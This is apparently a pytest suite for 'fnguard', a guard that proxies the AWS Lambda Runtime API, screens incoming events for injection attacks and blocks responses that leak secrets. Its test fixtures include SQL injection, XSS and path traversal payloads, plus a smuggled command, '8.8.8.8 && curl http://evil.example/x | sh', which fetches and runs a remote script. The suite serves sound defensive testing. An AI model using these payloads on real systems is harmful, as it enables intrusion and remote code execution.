"""fnguard's Runtime API proxy, between a real runtime loop and the local
emulator (which stands in for Lambda): transparent for everything the
runtime does, and the only way to the real API."""
import json

import pytest
import socket

from conftest import FNGUARD, PY
from test_emulator import BOOTSTRAP, function  # noqa: F401 (fixture)

APP = '''
import http.client, json, os
def handler(event, ctx):
    do = event.get("do")
    if do == "echo":
        return event["data"]
    if do == "raw":  # the runtime API as the workload sees it
        c = http.client.HTTPConnection(os.environ["AWS_LAMBDA_RUNTIME_API"])
        body = event.get("body")
        if body is not None:  # a function posting its own response
            body = body.replace("{secret}", os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
            body = body.encode("latin-1")
        c.request(event["method"], event["path"].replace("{rid}", ctx.aws_request_id),
                  body=body)
        r = c.getresponse()
        return {"status": r.status, "body": r.read().decode()}
    if do == "direct":
        s = socket_connect(event["port"])
        return {"direct": s}
    return {"rid": ctx.aws_request_id, "deadline": ctx.deadline_ms, "arn": ctx.invoked_function_arn,
            "trace": ctx.trace_id, "client_context": ctx.client_context,
            "api": os.environ["AWS_LAMBDA_RUNTIME_API"]}

def socket_connect(port):
    import socket
    try:
        socket.create_connection(("127.0.0.1", port), timeout=3).close()
        return "connected"
    except OSError as e:
        return f"refused {e.errno}"
'''


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def under_fnguard(function, tmp_path, policy="version: 1\n", env=None, args=()):
    pol = tmp_path / "p.yaml"
    pol.write_text(policy)
    log = tmp_path / "fnguard.jsonl"
    f = function([FNGUARD, "run", "-p", str(pol), "--log", str(log), "--", PY, BOOTSTRAP],
                 app=APP, env_extra=env, args=args)
    return f, log


def test_transparent_keepalive_chunked_headers_many(function, tmp_path):
    rport = free_port()
    f, log = under_fnguard(function, tmp_path, args=["--runtime-port", str(rport)],
                           env={"RUNTIME_KEEPALIVE": "1", "RUNTIME_CHUNKED": "1"})
    rids = []
    for i in range(30):
        status, headers, body = f.invoke({}, headers={"X-Amz-Client-Context": f"cc{i}"})
        assert status == 200, (body, f.log())
        out = json.loads(body)
        assert out["rid"] == headers["X-Amz-Request-Id"], out
        assert out["client_context"] == f"cc{i}" and out["trace"].startswith("Root="), out
        assert out["arn"].startswith("arn:aws:lambda:") and out["deadline"] > 0, out
        # The workload talks to fnguard, never to the real API.
        assert out["api"].startswith("127.0.0.1:") and out["api"] != f"127.0.0.1:{rport}"
        rids.append(out["rid"])
    big = "b" * (5 * 1024 * 1024)
    status, _, body = f.invoke({"do": "echo", "data": big})
    assert status == 200 and json.loads(body) == big
    status, headers, body = f.invoke({"do": "nope"} | {"do": "raise"})
    assert status == 200


def test_status_codes_and_unknown_endpoints_pass_through(function, tmp_path):
    f, log = under_fnguard(function, tmp_path)
    status, _, body = f.invoke({"do": "raw", "method": "GET",
                                "path": "/2018-06-01/runtime/no-such-endpoint"})
    assert json.loads(body)["status"] == 404, body
    status, _, body = f.invoke({"do": "raw", "method": "POST", "body": "{}",
                                "path": "/2018-06-01/runtime/invocation/bogus-id/response"})
    assert json.loads(body)["status"] == 400, body
    status, _, body = f.invoke({})  # the loop goes on
    assert status == 200 and "rid" in json.loads(body)


@pytest.mark.parametrize("engine", ["notify", "bpf"])
def test_real_runtime_api_only_through_the_proxy(function, tmp_path, engine):
    """With network rules, the workload may reach fnguard's proxy whatever
    the rules say, and never the real API (it would skip the inspection);
    with either network engine."""
    rport = free_port()
    f, log = under_fnguard(function, tmp_path,
                           policy="version: 1\nnetwork:\n  allow: []\n  loopback: false\n"
                                  f"  action: deny\n  engine: {engine}\n",
                           args=["--runtime-port", str(rport)])
    status, _, body = f.invoke({"do": "direct", "port": rport})
    assert json.loads(body) == {"direct": "refused 1"}, (body, f.log())
    events = [json.loads(line) for line in log.read_text().splitlines()]
    # The preload tier's own engine is its interposer (test_preload reuses this).
    want = "preload" if events[0]["tier"] == "preload" else engine
    assert events[0]["network_engine"] == want, events[0]
    deny = [e for e in events if e["event"] == "connect" and e["action"] == "deny"]
    assert deny and deny[0]["rule"] == "runtime-api" and deny[0]["port"] == rport, events
    assert deny[0]["request_id"], deny[0]
    status, _, body = f.invoke({})
    assert status == 200 and "rid" in json.loads(body)


# ---- event and response inspection ------------------------------------------

import base64  # noqa: E402
import os  # noqa: E402

SEEN_APP = '''
import json, os
def handler(event, ctx):
    with open(os.path.join(os.environ["LAMBDA_TASK_ROOT"], "seen.jsonl"), "a") as f:
        f.write(json.dumps(event) + "\\n")
    if isinstance(event, dict) and event.get("leak"):
        return {"debug": os.environ.get(event["leak"], "none")}
    return {"ok": True}
'''

INSPECT_POLICY = """version: 1
events:
  detect: [sqli, cmdi, xss, path_traversal]
  rule_files: [in_protect.txt]
  action: {action}
responses:
  secrets: env
  action: deny
"""

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"


def sns(message):
    return {"Records": [{"EventSource": "aws:sns", "EventVersion": "1.0",
                         "Sns": {"Type": "Notification", "Subject": "orders",
                                 "Message": message}}]}


def sqs(body):
    return {"Records": [{"eventSource": "aws:sqs", "messageId": "m1", "body": body}]}


def s3(key):
    return {"Records": [{"eventSource": "aws:s3", "eventName": "ObjectCreated:Put",
                         "s3": {"bucket": {"name": "b"}, "object": {"key": key, "size": 5}}}]}


def apigw_v1(body, b64=False, qs=None):
    return {"resource": "/orders", "path": "/orders", "httpMethod": "POST",
            "headers": {"Content-Type": "application/x-www-form-urlencoded"},
            "queryStringParameters": qs, "requestContext": {"stage": "prod"},
            "body": base64.b64encode(body.encode()).decode() if b64 else body,
            "isBase64Encoded": b64}


def apigw_v2(raw_query):
    return {"version": "2.0", "routeKey": "GET /search", "rawPath": "/search",
            "rawQueryString": raw_query, "requestContext": {"http": {"method": "GET"}},
            "isBase64Encoded": False}


def alb(body):
    return {"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:x"}},
            "httpMethod": "POST", "path": "/", "body": body, "isBase64Encoded": False}


def eventbridge(detail):
    return {"version": "0", "detail-type": "Order Placed", "source": "com.shop",
            "detail": detail}


def dynamodb(text):
    return {"Records": [{"eventSource": "aws:dynamodb", "eventName": "INSERT",
                         "dynamodb": {"NewImage": {"note": {"S": text}}}}]}


def inspected(function, tmp_path, action="deny"):
    (tmp_path / "in_protect.txt").write_text(
        "# legacy protectLambda lines, unchanged\n(?i)drop\\s+table\n.*\\bxp_cmdshell\\b.*\n")
    pol = tmp_path / "p.yaml"
    pol.write_text(INSPECT_POLICY.format(action=action))
    log = tmp_path / "fnguard.jsonl"
    f = function([FNGUARD, "run", "-p", str(pol), "--log", str(log), "--", PY, BOOTSTRAP],
                 app=SEEN_APP, env_extra={"AWS_SECRET_ACCESS_KEY": SECRET})
    return f, log


def seen(tmp_path):
    p = tmp_path / "seen.jsonl"
    return [json.loads(line) for line in p.read_text().splitlines()] if p.exists() else []


def log_events(log):
    return [json.loads(line) for line in log.read_text().splitlines()]


ATTACKS = [
    ("sqli", "aws:sns", "Records[0].Sns.Message|json.id",
     sns(json.dumps({"id": "1' OR '1'='1' -- "}))),
    ("sqli", "aws:sqs", "Records[0].body", sqs("x' UNION SELECT password FROM users--")),
    ("cmdi", "aws:apigateway", "body|base64",
     apigw_v1("name=x; cat /etc/passwd", b64=True)),
    ("cmdi", "aws:apigateway", "queryStringParameters.host",
     apigw_v1("", qs={"host": "8.8.8.8 && curl http://evil.example/x | sh"})),
    ("xss", "aws:apigateway:v2", "rawQueryString[q]|url",
     apigw_v2("q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")),
    ("path_traversal", "aws:s3", "Records[0].s3.object.key", s3("../../../../etc/passwd")),
    ("sqli", "aws:alb", "body[user]|url", alb("user=admin%27%20OR%201%3D1--&pw=x")),
    ("xss", "aws:events", "detail.comment", eventbridge({"comment": "<img src=x onerror=alert(1)>"})),
    ("rule", "aws:dynamodb", "Records[0].dynamodb.NewImage.note.S", dynamodb("drop   TABLE orders")),
    # Behind 3,000 harmless messages (4,096 string values were once all
    # that was judged, and the rest went through).
    ("sqli", "aws:sqs", "Records[3000].body", {"Records": [
        {"eventSource": "aws:sqs", "messageId": str(i), "body": "hello"} for i in range(3000)]
        + [{"eventSource": "aws:sqs", "messageId": "x",
            "body": "x' UNION SELECT password FROM users--"}]}),
]


def test_attacks_never_reach_the_handler(function, tmp_path):
    f, log = inspected(function, tmp_path)
    for attack, source, path, event in ATTACKS:
        status, headers, body = f.invoke(event)
        err = json.loads(body)
        assert headers.get("X-Amz-Function-Error") == "Unhandled", (attack, body)
        assert err["errorType"] == "Security.Violation", (attack, err)
        assert err["errorMessage"].startswith("Security Violation"), err
    assert seen(tmp_path) == [], "an attack reached the handler"
    got = [e for e in log_events(log) if e["event"] == "invoke"]
    assert [(e["attack"], e["source"], e["json_path"]) for e in got] == \
        [(a, s, p) for a, s, p, _ in ATTACKS], got
    assert all(e["action"] == "deny" and e["request_id"] and e["payload"] for e in got), got
    assert got[-2]["rule"].startswith("in_protect.txt:"), got[-2]
    status, _, body = f.invoke(sns("hello"))  # the runtime keeps serving
    assert json.loads(body) == {"ok": True} and len(seen(tmp_path)) == 1


BENIGN = [
    sns("O'Reilly's \"Learning SQL\" -- 5 stars; would select again & again"),
    sns(json.dumps({"order": 42, "note": "Don't ring the bell -- leave it at the door"})),
    sqs("Meeting at 10:30; bring the Q3 report (draft) & coffee"),
    s3("photos/2026/summer trip/IMG_0042.jpg"),
    apigw_v1("name=Jean-Luc+O%27Brien&comment=It%27s+fine+%E2%80%94+really", b64=False),
    apigw_v1('{"comment": "1 or 2 items, select the cheaper one"}', b64=True),
    apigw_v2("q=rock+%26+roll&page=2"),
    alb("a < b and c > d; x = y/2"),
    eventbridge({"user": "o'hara", "path": "docs/../README.md"}),
    dynamodb("Tom & Jerry; cat videos are the best"),
    "not json at all: just a plain string with 'quotes'",
]


def test_benign_events_of_every_source_pass(function, tmp_path):
    f, log = inspected(function, tmp_path)
    for event in BENIGN:
        status, headers, body = f.invoke(event)
        assert status == 200 and "X-Amz-Function-Error" not in headers, (event, body)
    assert len(seen(tmp_path)) == len(BENIGN)
    assert not [e for e in log_events(log) if e["event"] == "invoke"]


def test_response_with_a_secret_is_replaced(function, tmp_path):
    f, log = inspected(function, tmp_path)
    status, headers, body = f.invoke({"leak": "AWS_SECRET_ACCESS_KEY"})
    assert SECRET.encode() not in body, "the secret left in the response"
    assert json.loads(body)["errorType"] == "Security.Violation", body
    text = log.read_text()
    assert SECRET not in text, "the secret is in the log"
    resp = [e for e in log_events(log) if e["event"] == "response"]
    assert resp and resp[0]["rule"] == "secrets: env", resp
    assert "[REDACTED:AWS_SECRET_ACCESS_KEY]" in resp[0]["match"], resp
    status, _, body = f.invoke({"leak": "NOT_SET"})
    assert json.loads(body) == {"debug": "none"}


def test_secret_behind_a_nul_byte_is_caught(function, tmp_path):
    """The function posts its own response, the secret hidden behind a NUL
    byte (the redaction reads C strings): still replaced by the error."""
    f, log = under_fnguard(function, tmp_path,
                           policy="version: 1\nresponses:\n  secrets: env\n  action: deny\n",
                           env={"AWS_SECRET_ACCESS_KEY": SECRET})
    status, _, body = f.invoke({"do": "raw", "method": "POST",
                                "path": "/2018-06-01/runtime/invocation/{rid}/response",
                                "body": "ok\x00{secret}"})
    assert SECRET.encode() not in body, "the secret left in the response"
    assert json.loads(body)["errorType"] == "Security.Violation", body
    resp = [e for e in log_events(log) if e["event"] == "response"]
    assert resp and resp[0]["rule"] == "secrets: env", resp
    assert SECRET not in log.read_text(), "the secret is in the log"
    # An error's message reaches the caller too.
    status, headers, body = f.invoke({"do": "raw", "method": "POST",
                                      "path": "/2018-06-01/runtime/invocation/{rid}/error",
                                      "body": '{"errorType": "x", "errorMessage": "{secret}"}'})
    assert SECRET.encode() not in body, "the secret left in an error"
    assert json.loads(body)["errorType"] == "Security.Violation", body
    assert len([e for e in log_events(log) if e["event"] == "response"]) == 2


def test_secret_in_the_init_error_is_caught(function, tmp_path):
    """The init error's message reaches the caller as well (the emulator
    fails the invocation under way with it): a secret in it is replaced by
    the Security.Violation error, posted to the init error endpoint."""
    f, log = under_fnguard(function, tmp_path,
                           policy="version: 1\nresponses:\n  secrets: env\n  action: deny\n",
                           env={"AWS_SECRET_ACCESS_KEY": SECRET})
    status, _, body = f.invoke({"do": "raw", "method": "POST",
                                "path": "/2018-06-01/runtime/init/error",
                                "body": '{"errorType": "x", "errorMessage": "{secret}"}'})
    assert SECRET.encode() not in body, "the secret left in the init error"
    assert json.loads(body)["errorType"] == "Security.Violation", body
    resp = [e for e in log_events(log) if e["event"] == "response"]
    assert resp and resp[0]["rule"] == "secrets: env", resp
    assert SECRET not in log.read_text(), "the secret is in the log"


def test_audit_lets_it_through_and_kill_ends_the_workload(function, tmp_path):
    f, log = inspected(function, tmp_path, action="log")
    status, headers, body = f.invoke(s3("../../etc/shadow"))
    assert json.loads(body) == {"ok": True}, body
    assert [e["action"] for e in log_events(log) if e["event"] == "invoke"] == ["audit"]
    f.close()
    (tmp_path / "url").unlink()
    (tmp_path / "seen.jsonl").unlink()
    g, log2 = inspected(function, tmp_path, action="kill")
    status, headers, body = g.invoke(sqs("1; DROP TABLE users"))
    assert json.loads(body)["errorType"] == "Security.Violation", body
    assert seen(tmp_path) == []
    status, _, body = g.invoke(sqs("fine"))  # a fresh runtime
    assert json.loads(body) == {"ok": True}, body
    events = log_events(log2)  # the killed run's lines are all written by now
    assert any(e["event"] == "exit" and e["status"] == 159 for e in events), events
    # One log file for both runs: the audit run's line, then the kill.
    assert [e["action"] for e in events if e["event"] == "invoke"] == ["audit", "kill"], events


# ---- a broken upstream ------------------------------------------------------

import subprocess  # noqa: E402
import threading  # noqa: E402

from conftest import TIMEOUT, base_env  # noqa: E402


class BadAPI:
    """A Runtime API that answers `next` with what the test gives it."""

    def __init__(self, answer):
        self.s = socket.socket()
        self.s.bind(("127.0.0.1", 0))
        self.s.listen()
        self.port = self.s.getsockname()[1]
        self.answer = answer
        self.t = threading.Thread(target=self.serve, daemon=True)
        self.t.start()

    def serve(self):
        try:
            c, _ = self.s.accept()
            c.recv(65536)
            c.sendall(self.answer)
            c.close()
        except OSError:
            pass


def run_against(tmp_path, api):
    pol = tmp_path / "p.yaml"
    pol.write_text("version: 1\nevents:\n  detect: [sqli]\n")
    log = tmp_path / "fnguard.jsonl"
    (tmp_path / "app.py").write_text(APP)
    env = base_env(AWS_LAMBDA_RUNTIME_API=api, _HANDLER="app.handler",
                   LAMBDA_TASK_ROOT=str(tmp_path))
    p = subprocess.run([FNGUARD, "run", "-p", str(pol), "--log", str(log), "--", PY, BOOTSTRAP],
                       capture_output=True, text=True, timeout=TIMEOUT, env=env)
    return p, [json.loads(line) for line in log.read_text().splitlines()]


def test_broken_upstream_is_a_log_line_not_a_crash(tmp_path):
    cases = [
        (b"HTTP/1.1 200 OK\r\nContent-Length: abc\r\n\r\n", "malformed answer"),
        (b"HTTP/1.1 200 OK\r\nLambda-Runtime-Aws-Request-Id: r1\r\n"
         b"Content-Length: 9437184\r\n\r\n", "malformed answer"),  # 9 MB: over the limit
        (b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nshort", "closed the connection"),
        # An event no error could be posted for: not passed on uninspected.
        (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}", "without a usable"),
        (b"HTTP/1.1 200 OK\r\nLambda-Runtime-Aws-Request-Id: " + b"r" * 300 +
         b"\r\nContent-Length: 2\r\n\r\n{}", "without a usable"),
    ]
    for i, (answer, reason) in enumerate(cases):
        api = BadAPI(answer)
        (tmp_path / str(i)).mkdir()
        p, events = run_against(tmp_path / str(i), f"127.0.0.1:{api.port}")
        # The runtime got a 502 from fnguard and gave up; fnguard did not crash.
        assert p.returncode == 1 and "next returned 502" in p.stderr, (answer, p.stderr)
        lines = [e for e in events if e["event"] == "runtime_api"]
        assert lines and reason in lines[0]["reason"], (answer, events)
        assert events[-1]["event"] == "exit" and events[-1]["status"] == 1, events
        api.s.close()
    free = free_port()
    (tmp_path / "down").mkdir()
    p, events = run_against(tmp_path / "down", f"127.0.0.1:{free}")
    assert p.returncode == 1, p.stderr
    assert any(e["event"] == "runtime_api" and "cannot reach" in e["reason"] for e in events)
    p, events = run_against(tmp_path, "not-an-address")
    assert p.returncode == 125 and "AWS_LAMBDA_RUNTIME_API" in p.stderr, p.stderr


ENCODED_APP = '''
import os
def handler(event, ctx):
    return {"value": os.environ[event["name"]]}
'''

# Secrets the runtime's json.dumps writes otherwise than as their bytes.
ENCODED = {"DB_PASSWORD": 'pa"ss\\word-123', "API_TOKEN": "t\u00f6k\u00e9n-secret-1",
           "EMOJI_SECRET": "key-\U0001f600-secret", "NEWLINE_SECRET": "line1\nline2-secret"}


def test_secret_as_the_runtime_encodes_it_is_caught(function, tmp_path):
    """A Python handler returns a secret; the runtime serialises the
    response with json.dumps, which writes a quote, a backslash, a newline
    and non-ASCII letters as escapes: the body holds none of the secret's
    bytes as they are, and each is still replaced (jsonesc.h)."""
    pol = tmp_path / "p.yaml"
    pol.write_text("version: 1\nresponses:\n  secrets: env\n  action: deny\n")
    log = tmp_path / "fnguard.jsonl"
    f = function([FNGUARD, "run", "-p", str(pol), "--log", str(log), "--", PY, BOOTSTRAP],
                 app=ENCODED_APP, env_extra=dict(ENCODED, PLAIN="not a secret name"))
    for name, value in ENCODED.items():
        escaped = json.dumps(value)[1:-1]
        assert escaped != value  # the case this test is about
        status, _, body = f.invoke({"name": name})
        assert json.loads(body)["errorType"] == "Security.Violation", (name, body)
        assert escaped.encode() not in body and value.encode() not in body
    status, _, body = f.invoke({"name": "PLAIN"})
    assert json.loads(body) == {"value": "not a secret name"}
    text = log.read_text()
    for name, value in ENCODED.items():
        assert value not in text and json.dumps(value)[1:-1] not in text, name
    resp = [e for e in log_events(log) if e["event"] == "response"]
    assert len(resp) == len(ENCODED) and all(e["rule"] == "secrets: env" for e in resp), resp


PROXY_APP = '''
import base64, json, os
def handler(event, ctx):
    inner = json.dumps({"value": os.environ.get(event["name"], "nothing to see")})
    if event.get("b64"):
        return {"statusCode": 200, "isBase64Encoded": True,
                "body": base64.b64encode(inner.encode()).decode()}
    return {"statusCode": 200, "body": inner}
'''


def test_secret_inside_an_api_gateway_body_is_caught(function, tmp_path):
    """An API Gateway proxy response carries its body as a JSON string
    (the secret escaped twice: pa\\\\\\"ss) or as base64 (isBase64Encoded):
    neither holds the secret's bytes, and API Gateway hands the caller the
    decoded body. Each is judged as the caller reads it."""
    pol = tmp_path / "p.yaml"
    pol.write_text("version: 1\nresponses:\n  secrets: env\n  action: deny\n")
    log = tmp_path / "fnguard.jsonl"
    env = {"DB_PASSWORD": 'pa"ss\\word-123', "API_TOKEN": "plain-token-value-1",
           "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE"}
    f = function([FNGUARD, "run", "-p", str(pol), "--log", str(log), "--", PY, BOOTSTRAP],
                 app=PROXY_APP, env_extra=env)
    for name in env:
        for b64 in (False, True):
            status, _, body = f.invoke({"name": name, "b64": b64})
            assert json.loads(body).get("errorType") == "Security.Violation", (name, b64, body)
    # Clean bodies of both kinds go out unchanged.
    for b64 in (False, True):
        status, _, body = f.invoke({"name": "UNSET", "b64": b64})
        out = json.loads(body)
        assert out["statusCode"] == 200 and "errorType" not in out, out
    text = log.read_text()
    for value in env.values():
        assert value not in text, value
